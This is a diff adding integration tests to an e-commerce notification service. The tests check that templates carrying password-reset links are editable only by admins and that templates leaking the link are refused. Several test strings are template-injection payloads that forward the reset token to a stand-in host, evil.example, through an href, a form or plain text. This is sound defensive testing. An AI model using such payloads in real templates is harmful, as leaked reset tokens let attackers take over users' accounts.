@@ -3,6 +3,7 @@ package io.tienda.notification.template;
 import io.tienda.notification.NotificationServiceIT;
 import io.tienda.platform.events.Topics;
 import io.tienda.platform.events.returns.ReturnReceived;
+import io.tienda.platform.events.user.PasswordResetRequested;
 import io.tienda.platform.testing.http.ApiReply;
 import io.tienda.platform.testing.infra.ReceivedMail;
 import io.tienda.platform.testing.security.TestTokens;
@@ -21,10 +22,17 @@ class TemplatesIT extends NotificationServiceIT {
 
     private static final String PATH = "/api/v1/templates/return-received/en";
     private static final String MANAGER = TestTokens.staff("MANAGER");
+    private static final String ADMIN = TestTokens.staff("ADMIN");
+    /** A template whose {@code link} carries a single-use token: whoever holds it resets the password. */
+    private static final String RESET = "/api/v1/templates/password-reset/es";
+    private static final String ORDER = "/api/v1/templates/order-confirmed/es";
+    private static final String FORWARDED_HTML = "<p><a th:href=\"'https://evil.example/r?u=' + ${link}\">Elegir</a></p>";
 
     @AfterEach
     void backToTheDefault() {
         api.delete(PATH, MANAGER).expect(200);
+        api.delete(RESET, ADMIN).expect(200);
+        api.delete(ORDER, MANAGER).expect(200);
     }
 
     @Test
@@ -45,6 +53,80 @@ class TemplatesIT extends NotificationServiceIT {
         api.put(PATH, TestTokens.staff("SUPPORT"), body("x", "<p>x</p>", "x")).expectProblem(403, "forbidden");
         api.post(PATH + "/preview", TestTokens.staff("SUPPORT"), Map.of()).expectProblem(403, "forbidden");
         api.get("/api/v1/templates", null).expectProblem(401, "unauthorized");
+    }
+
+    @Test
+    void onlyAnAdminMayChangeATemplateWhoseLinkCarriesASecret() {
+        String html = api.get(RESET, MANAGER).expect(200).text("html");
+
+        for (String key : new String[] {"password-reset", "verify-email"}) {
+            String path = "/api/v1/templates/" + key + "/es";
+            api.put(path, MANAGER, body("Hola", FORWARDED_HTML, "[(${link})]")).expectProblem(403, "forbidden");
+            api.delete(path, MANAGER).expectProblem(403, "forbidden");
+        }
+        ApiReply unchanged = api.get(RESET, MANAGER).expect(200);
+        assertThat(unchanged.json().get("custom").asBoolean()).isFalse();
+        assertThat(unchanged.text("html")).isEqualTo(html);
+        // Reading and previewing show the sample token only, so they stay open to editors.
+        assertThat(api.post(RESET + "/preview", MANAGER, Map.of()).expect(200).text("html"))
+                .contains("token=sample-token");
+
+        // A link to an order is no secret: a manager still edits the order mails, joined links included.
+        ApiReply order = api.put(ORDER, MANAGER, body("Pedido [(${order})]",
+                "<p><a th:href=\"${link} + '?from=mail'\">Ver</a></p>", "[(${link})]")).expect(200);
+        assertThat(order.json().get("custom").asBoolean()).isTrue();
+    }
+
+    @Test
+    void aSecretLinkMayOnlyBeAWholeHrefOrAWholeText() {
+        String[][] attacks = {
+                {"html", FORWARDED_HTML, "th:href=\"'https://evil.example/r?u=' + ${link}\""},
+                {"html", "<link rel=\"stylesheet\" th:href=\"${link}\">", "th:href=\"${link}\""},
+                {"html", "<form action=\"https://evil.example\"><textarea name=\"t\">[[${link}]]</textarea></form>",
+                        "[[${link}]]"},
+                {"text", "Elegir: [('https://evil.example/r?u=' + ${link})]", "[('https://evil.example/r?u=' + ${link})]"},
+                {"subject", "Tu enlace [(${link})]", "[(${link})]"},
+        };
+        for (String[] attack : attacks) {
+            String part = attack[0];
+            Map<String, Object> draft = body(part.equals("subject") ? attack[1] : "Hola",
+                    part.equals("html") ? attack[1] : "<p><a th:href=\"${link}\">Elegir</a></p>",
+                    part.equals("text") ? attack[1] : "[(${link})]");
+
+            for (ApiReply refused : new ApiReply[] {api.put(RESET, ADMIN, draft),
+                    api.post(RESET + "/preview", ADMIN, draft)}) {
+                refused.expectProblem(400, "template-not-allowed");
+                assertThat(refused.text("part")).as(attack[1]).isEqualTo(part);
+                assertThat(refused.text("expression")).as(attack[1]).isEqualTo(attack[2]);
+                assertThat(refused.text("detail")).as(attack[1]).startsWith(part + ": the secret link");
+            }
+        }
+        assertThat(api.get(RESET, ADMIN).expect(200).json().get("custom").asBoolean()).isFalse();
+
+        ApiReply saved = api.put(RESET, ADMIN, body("Tu contraseña",
+                "<p><a th:href=\"${link}\">Elegir</a> o copia <span th:text=\"${link}\">x</span>: [[${link}]]</p>",
+                "Elegir: [(${link})]")).expect(200);
+        assertThat(saved.json().get("custom").asBoolean()).isTrue();
+    }
+
+    @Test
+    void aStoredOverrideThatForwardsTheSecretLinkIsNotRenderedTheDefaultIsSent() {
+        // As a manager could save one before only administrators could: written to the store directly.
+        mongo.save(new org.bson.Document("_id", "password-reset/EMAIL/es").append("key", "password-reset")
+                .append("channel", "EMAIL").append("locale", "es").append("subject", "Tu contraseña")
+                .append("html", FORWARDED_HTML).append("text", "[(${link})]").append("updatedAt", Instant.now()),
+                "templates");
+        api.post(RESET + "/preview", ADMIN, Map.of()).expectProblem(400, "template-not-allowed");
+
+        UUID user = UUID.randomUUID();
+        String email = address("admin");
+        events.send(Topics.USER_EVENTS, user.toString(), new PasswordResetRequested(user, email, "Admin", "es",
+                "reset-secret", Instant.parse("2030-01-01T10:00:00Z")));
+
+        ReceivedMail mail = mailFor(email, 1).get(0);
+        assertThat(mail.subject()).isEqualTo("Restablece tu contraseña");
+        assertThat(mail.html()).doesNotContain("evil.example").contains("href=\"" + BASE
+                + "/reset-password?token=reset-secret\"");
     }
 
     @Test
